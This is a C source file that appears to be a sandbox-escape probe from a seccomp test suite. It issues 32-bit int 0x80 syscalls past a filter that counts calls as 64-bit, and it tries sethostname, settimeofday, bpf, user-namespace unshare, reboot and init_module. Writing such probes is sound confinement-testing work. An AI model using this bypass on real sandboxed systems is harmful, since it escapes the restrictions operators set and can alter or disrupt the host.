/* Enters the kernel as a 32-bit program, past a filter that counts calls as 64-bit ones (seccomp(2), CAVEATS). */
#include "common/attack.h"

static long call(long number, long one, long two, long three, long four, long five) {
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(number), "b"(one), "c"(two), "d"(three), "S"(four), "D"(five)
                     : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static void tries(void) {
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) {
        return;
    }
    long at = (long)low;
    strcpy(low, MARK);
    printf("getpid %ld of %d\n", call(20, 0, 0, 0, 0, 0), getpid());
    printf("sethostname %ld\n", call(74, at, strlen(MARK), 0, 0, 0));
    int *time = (int *)(low + 128);
    *time = 1000000000;
    printf("settimeofday %ld\n", call(79, at + 128, 0, 0, 0, 0));
    printf("stime %ld\n", call(25, at + 128, 0, 0, 0, 0));
    printf("add_key %ld\n", call(286, at, at, at, 4, -4));
    printf("keyctl %ld\n", call(288, 0, -4, 1, 0, 0));
    printf("socket AF_ALG %ld\n", call(359, 38, 5, 0, 0, 0));
    printf("unshare users %ld\n", call(310, CLONE_NEWUSER, 0, 0, 0, 0));
    printf("bpf %ld\n", call(357, 0, at, 64, 0, 0));
    printf("syslog %ld\n", call(103, 5, 0, 0, 0, 0));
    printf("reboot %ld\n", call(88, 0xfee1dead, 672274793, 0, 0, 0));
    printf("init_module %ld\n", call(128, at, 16, at, 0, 0));
}

static void attempt(void) {
    apart(tries, 5);
}
